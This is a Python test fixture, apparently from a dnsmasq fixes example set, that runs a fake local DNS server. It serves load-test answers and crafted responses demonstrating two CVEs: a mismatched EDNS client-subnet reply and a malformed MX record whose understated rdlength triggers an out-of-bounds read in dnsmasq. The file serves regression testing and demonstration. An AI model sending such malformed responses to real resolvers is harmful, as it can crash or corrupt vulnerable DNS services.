#!/usr/bin/env python3
"""Fake upstream DNS server for examples/fixes/dnsmasq (UDP, stdlib only).

A query for qN.load.test (any N) gets A 10.(N>>16&255).(N>>8&255).(N&255), TTL --ttl,
echoing the client's EDNS client-subnet option if the query had one.
Special names for the CVE demonstrations:
  ecs-bad.test   A 10.66.66.66 with an EDNS client-subnet option for 10.0.0.0/24
                 (never the subnet dnsmasq sent: CVE-2026-4893 makes dnsmasq discard it)
  lie.test MX    an MX RR that claims rdlength 4 while its exchange name runs on past
                 it (no OPT RR after it), for CVE-2026-5172: with cache-rr=MX,
                 extract_addresses() reads past the RR (before the fix: a huge
                 out-of-bounds copy)
Anything else: NXDOMAIN."""
import argparse, socket, struct

def qname_end(pkt, off):
    while pkt[off]:
        off += pkt[off] + 1
    return off + 1

def labels(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\0"

def find_opt(pkt, qend):
    """the OPT RR of the query's additional section (returns its rdata or None)"""
    qd, an, ns, ar = struct.unpack(">4H", pkt[4:12])
    off = qend + 4
    for _ in range(ar):
        if pkt[off] == 0 and struct.unpack(">H", pkt[off + 1:off + 3])[0] == 41:
            rdlen = struct.unpack(">H", pkt[off + 9:off + 11])[0]
            return pkt[off + 11:off + 11 + rdlen]
        off = qname_end(pkt, off); rdlen = struct.unpack(">H", pkt[off + 8:off + 10])[0]; off += 10 + rdlen
    return None

def opt_rr(options):
    return b"\0" + struct.pack(">HHIH", 41, 1232, 0, len(options)) + options

def answer(pkt, ttl):
    qend = qname_end(pkt, 12)
    name = []
    off = 12
    while pkt[off]:
        name.append(pkt[off + 1:off + 1 + pkt[off]].decode("latin1").lower()); off += pkt[off] + 1
    qtype = struct.unpack(">H", pkt[qend:qend + 2])[0]
    name = ".".join(name)
    q = pkt[12:qend + 4]
    opt = find_opt(pkt, qend)
    flags = 0x8180
    an = b""; ancount = 0; add = b""; arcount = 0; rcode = 0
    if opt is not None:
        add = opt_rr(opt); arcount = 1          # echo the client's options (ECS included)
    if name.endswith(".load.test") and name.startswith("q") and name[1:].split(".")[0].isdigit() and qtype == 1:
        n = int(name[1:].split(".")[0])
        an = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, ttl, 4) + bytes([10, n >> 16 & 255, n >> 8 & 255, n & 255]); ancount = 1
    elif name == "ecs-bad.test" and qtype == 1:
        an = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, ttl, 4) + bytes([10, 66, 66, 66]); ancount = 1
        ecs = struct.pack(">HBB", 1, 24, 24) + bytes([10, 0, 0])           # family 1, source /24, scope /24, 10.0.0
        add = opt_rr(struct.pack(">HH", 8, len(ecs)) + ecs); arcount = 1
    elif name == "mx.test" and qtype == 15:
        exchange = labels("mail.mx.test")
        an = b"\xc0\x0c" + struct.pack(">HHIH", 15, 1, ttl, 2 + len(exchange)) + struct.pack(">H", 10) + exchange; ancount = 1
    elif name == "lie.test" and qtype == 15:
        exchange = labels("mail-exchange-name-running-past-the-claimed-rdlength.lie.test")
        an = b"\xc0\x0c" + struct.pack(">HHIH", 15, 1, ttl, 4) + struct.pack(">H", 10) + exchange; ancount = 1
        add = b""; arcount = 0
    else:
        rcode = 3
    hdr = pkt[0:2] + struct.pack(">HHHHH", flags | rcode | (pkt[2] & 1) << 8, 1, ancount, 0, arcount)
    return hdr + q + an + add

if __name__ == "__main__":
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, default=5301); p.add_argument("--ttl", type=int, default=1)
    a = p.parse_args()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", a.port))
    while True:
        pkt, peer = s.recvfrom(4096)
        try:
            s.sendto(answer(pkt, a.ttl), peer)
        except Exception as e:
            pass
